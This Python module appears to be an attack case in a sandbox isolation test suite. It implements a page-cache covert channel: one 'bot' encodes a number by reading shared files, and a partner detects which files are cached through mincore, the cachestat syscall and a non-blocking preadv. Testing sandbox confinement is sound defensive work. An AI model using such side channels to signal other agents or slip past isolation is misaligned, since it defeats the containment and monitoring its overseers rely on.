"""Passes a number to another bot by reading files, which brings them into memory: three calls tell what is there.

Known by: the number arrives.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import time
from collections.abc import Callable
from functools import partial

from sandbox.attacks.jailed import LISTEN_S, Target, bits_of, call, channel, number_of, open_any, shared_files

PARTNERS = 2
STOPPED_BY = ("seccomp",)

_NO_WAIT = 8
_found: list[int] = []


def send(target: Target) -> Callable[[], object]:
    """Read those whose bit is set, once: the trial saw to it that none was in memory."""
    for place in bits_of(target.number):
        with open(shared_files()[place], "rb") as file:
            file.read()
    return lambda: None


def receive(target: Target) -> int:
    """By each means, until one answers; once, and late, since to look may bring a file into memory as well."""
    if not _found:
        time.sleep(0.6 * LISTEN_S)
        open_any((way.__name__, partial(_note, way)) for way in (_by_map, _by_call, _by_reading))
    return _found[0]


def _note(way: Callable[[int], bool]) -> None:
    _found.append(_seen(way))


def _seen(way: Callable[[int], bool]) -> int:
    handles = [os.open(path, os.O_RDONLY) for path in shared_files()]
    try:
        return number_of(place for place, handle in enumerate(handles) if way(handle))
    finally:
        for handle in handles:
            os.close(handle)


def _by_map(handle: int) -> bool:
    page = mmap.mmap(handle, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE, flags=mmap.MAP_PRIVATE)
    there = ctypes.create_string_buffer(1)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mincore(ctypes.addressof(ctypes.c_char.from_buffer(page)), ctypes.c_size_t(4096), there) != 0:
        raise OSError(ctypes.get_errno(), "mincore")
    return bool(there.raw[0] & 1)


def _by_call(handle: int) -> bool:
    piece, answer = (ctypes.c_uint64 * 2)(0, 4096), (ctypes.c_uint64 * 5)()
    call("cachestat", handle, piece, answer, 0)
    return bool(answer[0])


def _by_reading(handle: int) -> bool:
    """A read that must not wait fails where it would have to, and has nothing brought into memory."""
    try:
        os.preadv(handle, [bytearray(1)], 0, _NO_WAIT)
    except BlockingIOError:
        return False
    return True


if __name__ == "__main__":
    channel(send, receive)
